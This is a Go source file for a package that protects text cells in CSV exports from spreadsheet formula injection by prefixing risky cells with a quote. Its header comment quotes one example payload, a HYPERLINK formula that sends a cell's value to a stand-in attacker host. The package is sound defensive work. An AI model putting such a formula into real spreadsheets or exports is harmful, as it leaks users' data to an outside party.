// Package csvsafe neutralises text cells of CSV exports against formula injection
// (OWASP "CSV Injection"): a spreadsheet runs a cell starting with = + - @ (or a tab
// or carriage return before one) as a formula, so an order reference such as
// =HYPERLINK("https://evil.example?"&A1,"click") would run on the merchant's machine.
// Such a cell is prefixed with a single quote, which spreadsheets show as text.
// Numeric columns are written as they are (a refund of -25.00 stays a number): call
// Text only for text cells.
package csvsafe

// Text answers s safe to open in a spreadsheet.
func Text(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// Texts applies Text to each cell, in place, and answers the row.
func Texts(row []string) []string {
	for i, c := range row {
		row[i] = Text(c)
	}
	return row
}
